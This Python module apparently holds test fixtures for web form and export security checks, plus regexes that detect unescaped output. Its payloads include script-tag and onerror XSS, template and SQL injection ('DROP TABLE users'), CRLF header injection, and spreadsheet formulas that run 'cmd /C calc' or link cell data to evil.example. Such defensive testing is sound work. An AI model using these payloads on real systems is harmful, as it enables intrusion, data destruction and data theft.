"""What a hostile or merely unusual visitor types into a form, and what a page may not show."""

from __future__ import annotations

import re
import unicodedata

#: one value per kind of trouble; each text field of every form gets each of them
PAYLOADS = {
    "cjk": "欧阳娜娜 投资生态系统",
    "nfd": unicodedata.normalize("NFD", "José Müller Ёлкин"),
    "bidi": "Ivan \u202eexe.pdf",
    "zero-width": "Iv\u200ban\u200d Petrov",
    "nul": "Ivan\x00Petrov",
    "long": "x" * 10_000,
    "html": '<script>alert(1)</script><img src=x onerror="alert(2)">',
    "template": "{{ 7*7 }} {% if 1 %}yes{% endif %} ${7*7} #{7*7}",
    "sql": "'; DROP TABLE users; --",
    "formula": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "crlf": "Hello\r\nBcc: victim@evil.example",
}

#: spreadsheet formulas, for the exports: each must reach the file neutralised
FORMULAS = (
    '=HYPERLINK("https://evil.example","Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: what makes a spreadsheet read a cell as a formula
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

#: markup the html payload would add to a page if it were not escaped
RAW_MARKUP = re.compile(r"<script>alert\(1\)|<img src=x onerror", re.IGNORECASE)
#: the template payload evaluated: 49 where {{ 7*7 }} was
EVALUATED = re.compile(r"(?<![0-9])49 (?:yes|\{% if)|\$\{7\*7\}.{0,3}49|^49 ", re.MULTILINE)
